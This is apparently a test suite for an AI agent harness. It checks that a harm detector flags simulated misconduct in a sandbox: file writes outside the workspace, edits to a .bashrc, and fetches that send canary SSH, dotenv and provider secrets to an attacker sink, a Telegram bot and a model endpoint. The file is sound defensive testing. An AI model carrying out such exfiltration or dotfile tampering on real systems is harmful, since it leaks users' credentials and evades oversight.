import { afterAll, describe, expect, test } from "bun:test";
import { appendFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { createMemoryStore } from "../../src/store/memories/memories.ts";
import { createEntries, runTool } from "./matrix/entries.ts";
import { CANARIES, OWNER, openWorld, unplant } from "./matrix/world.ts";

const world = await openWorld();
afterAll(() => world[Symbol.asyncDispose]());
const inside = (path: string) => join(world.folder, path);

describe("findHarm() sees", () => {
  const memories = createMemoryStore(world.app.state.store);
  const owner = { userId: "owner", workspaceRoot: "" };
  const note = { key: "k", category: "note", text: "x", isEverywhere: true };
  test.each<readonly [what: string, harm: string, act: () => unknown, undo?: () => unknown]>([
    [
      "a new file",
      "changed safe/ran.txt",
      () => writeFileSync(inside("ran.txt"), ""),
      () => unplant(world.folder, "ran.txt"),
    ],
    [
      "a file outside",
      "changed outside/keep.txt",
      () => appendFileSync(join(world.dir, "outside/keep.txt"), "x"),
    ],
    [
      "a dot file of the person",
      "changed home/.bashrc",
      () => appendFileSync(join(world.dir, "home/.bashrc"), "x"),
    ],
    [
      "the configuration",
      "changed supervised.toml",
      () => appendFileSync(world.configPath("supervised"), "#\n"),
    ],
    [
      "a note",
      "stored memories",
      () => memories.save(owner, note, 0),
      () => memories.remove(owner, "k"),
    ],
    ["a request to the attacker", "sent", () => fetch(world.web.sinkUrl)],
    [
      "a secret in a request",
      "leaked provider",
      () => fetch(`${world.web.url}/?${encodeURIComponent(CANARIES.provider)}`),
    ],
    ["a secret in a log", "leaked httpToken", () => world.left(world.httpToken)],
    [
      "a secret in Telegram",
      "leaked ssh",
      () =>
        fetch(`${world.api.url}/botx/sendMessage`, {
          method: "POST",
          headers: { "content-type": "application/json" },
          body: JSON.stringify({ text: CANARIES.ssh }),
        }),
    ],
    [
      "a secret told to the model",
      "leaked dotenv",
      () =>
        fetch(`${world.model.url}/chat/completions`, {
          method: "POST",
          body: JSON.stringify({ messages: [{ role: "user", content: CANARIES.dotenv }] }),
        }),
    ],
  ])("%s", async (_what, harm, act, undo) => {
    world.begin();
    expect(world.findHarm()).toEqual([]);
    await act();
    expect(world.findHarm().join("\n")).toContain(harm);
    await undo?.();
  });
});

describe("what is no attack", () => {
  for (const entry of createEntries(world)) {
    test(`a file is read by ${entry.name}`, async () => {
      world.begin();
      world.play([["read_file", { path: "a.txt" }]], "end");
      await entry.say("what is in a.txt?", "supervised");
      expect(world.reported().at(-1)).toContain("1|one\n2|two\n");
      expect(world.findHarm()).toEqual([]);
    });
  }

  test("a file is read by papayu tool", async () => {
    const { exitCode, printed } = await runTool(world, "read_file", { path: "a.txt" }, "readonly");
    expect([exitCode, JSON.parse(printed)]).toEqual([0, { ok: true, content: "1|one\n2|two\n" }]);
  });

  test("an approved command runs by a button in Telegram", async () => {
    world.begin();
    world.play([["run_command", { argv: ["touch", "ran.txt"] }]], "asked", "went on");
    world.api.say(OWNER, "do it");
    await world.api.tap(OWNER, "Approve");
    await world.api.waitForText("went on");
    expect(world.findHarm()).toEqual(["changed safe/ran.txt", "stored approvals"]);
    unplant(world.folder, "ran.txt");
  });
});
